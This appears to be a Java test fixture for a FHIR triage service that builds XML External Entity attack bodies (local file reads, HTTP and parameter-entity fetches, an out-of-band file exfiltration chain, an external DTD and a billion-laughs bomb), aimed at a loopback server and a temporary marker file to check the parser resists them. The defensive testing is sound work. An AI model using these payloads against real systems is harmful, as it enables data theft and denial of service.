package org.twitchtriage.fhir;

import static org.twitchtriage.testing.ChecklistResponses.benign;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import org.hl7.fhir.r4.model.Narrative;
import org.hl7.fhir.r4.model.Parameters;
import org.hl7.fhir.r4.model.QuestionnaireResponse;
import org.twitchtriage.testing.Content;

/**
 * XML bodies that try entity tricks: a secret file (holding a marker) to read, and a local HTTP server that
 * counts every request, so a test can tell whether anything was read or fetched.
 */
final class XmlEntities implements AutoCloseable {

    static final String ENTITY_PLACE = "ENTITYPLACE";

    final String marker = "XXE-MARKER-" + UUID.randomUUID();
    final Path secret;
    final AtomicInteger fetches = new AtomicInteger();
    private final HttpServer server;

    XmlEntities() {
        try {
            secret = Files.createTempFile("twitch-triage-secret", ".txt");
            Files.writeString(secret, marker);
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.createContext("/", exchange -> {
            fetches.incrementAndGet();
            byte[] dtd = ("<!ENTITY leak \"" + marker + "\">").getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            exchange.getResponseBody().write(dtd);
            exchange.close();
        });
        server.start();
    }

    String fileUrl() {
        return secret.toUri().toString();
    }

    String httpUrl(String path) {
        return "http://127.0.0.1:" + server.getAddress().getPort() + path;
    }

    /** A valid response in XML whose narrative holds {@link #ENTITY_PLACE}, for a DOCTYPE to fill. */
    static String responseXml(String identifier) {
        QuestionnaireResponse response =
                benign().identifier("urn:test:xxe", identifier).build();
        response.getText()
                .setStatus(Narrative.NarrativeStatus.GENERATED)
                .setDivAsString("<div xmlns=\"http://www.w3.org/1999/xhtml\">" + ENTITY_PLACE + "</div>");
        return Content.FHIR.newXmlParser().encodeResourceToString(response);
    }

    /** The same response as the parameter {@code resource} of a Parameters body, for $submit and $triage. */
    static String parametersXml(String identifier) {
        QuestionnaireResponse response =
                benign().identifier("urn:test:xxe", identifier).build();
        response.getText()
                .setStatus(Narrative.NarrativeStatus.GENERATED)
                .setDivAsString("<div xmlns=\"http://www.w3.org/1999/xhtml\">" + ENTITY_PLACE + "</div>");
        Parameters parameters = new Parameters();
        parameters.addParameter().setName("resource").setResource(response);
        return Content.FHIR.newXmlParser().encodeResourceToString(parameters);
    }

    /** Documents by attack, each with the doctype put before {@code document}'s root and the entity used in it. */
    Map<String, String> attacks(String document) {
        Map<String, String> attacks = new LinkedHashMap<>();
        attacks.put(
                "external entity (file)", withDoctype(document, "<!ENTITY xxe SYSTEM \"" + fileUrl() + "\">", "&xxe;"));
        attacks.put(
                "external entity in an attribute",
                withDoctype(document, "<!ENTITY xxe SYSTEM \"" + fileUrl() + "\">", "")
                        .replace("value=\"completed\"", "value=\"&xxe;\""));
        attacks.put(
                "external entity (http)",
                withDoctype(document, "<!ENTITY xxe SYSTEM \"" + httpUrl("/entity") + "\">", "&xxe;"));
        attacks.put(
                "parameter entity",
                withDoctype(
                        document, "<!ENTITY % remote SYSTEM \"" + httpUrl("/remote.dtd") + "\"> %remote;", "&leak;"));
        attacks.put(
                "parameter entity sending the file out",
                withDoctype(
                        document,
                        "<!ENTITY % file SYSTEM \"" + fileUrl() + "\">"
                                + "<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '" + httpUrl("/?d=") + "%file;'>\">"
                                + " %eval; %send;",
                        ""));
        attacks.put(
                "external DTD",
                document.replaceFirst(
                                "<(QuestionnaireResponse|Parameters) ",
                                "<!DOCTYPE $1 SYSTEM \"" + httpUrl("/external.dtd") + "\"><$1 ")
                        .replace(ENTITY_PLACE, "&leak;"));
        attacks.put("billion laughs", withDoctype(document, billionLaughs(), "&lol9;"));
        return attacks;
    }

    private static String withDoctype(String document, String declarations, String use) {
        String root = document.startsWith("<Parameters") ? "Parameters" : "QuestionnaireResponse";
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE " + root + " [" + declarations + "]>\n"
                + document.replace(ENTITY_PLACE, use);
    }

    private static String billionLaughs() {
        StringBuilder declarations = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            String previous = "&lol" + (i - 1) + ";";
            declarations
                    .append("<!ENTITY lol")
                    .append(i)
                    .append(" \"")
                    .append(previous.repeat(10))
                    .append("\">");
        }
        return declarations.toString();
    }

    @Override
    public void close() throws IOException {
        server.stop(0);
        Files.deleteIfExists(secret);
    }
}
